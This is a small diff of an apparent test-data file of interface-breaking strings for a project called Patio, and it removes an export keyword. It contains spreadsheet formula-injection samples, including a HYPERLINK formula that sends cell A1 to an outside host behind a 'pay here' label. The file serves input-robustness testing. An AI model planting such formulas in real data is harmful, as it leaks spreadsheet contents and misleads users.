@@ -1,6 +1,6 @@
 // Texts that break interfaces and files, by kind. Written for Patio: what a plate, a place or a search term could hold.
 
-export const NAUGHTY_BY_KIND = {
+const NAUGHTY_BY_KIND = {
   formulas: [
     '=1+1',
     '=HYPERLINK("http://example.org/?"&A1,"pay here")',
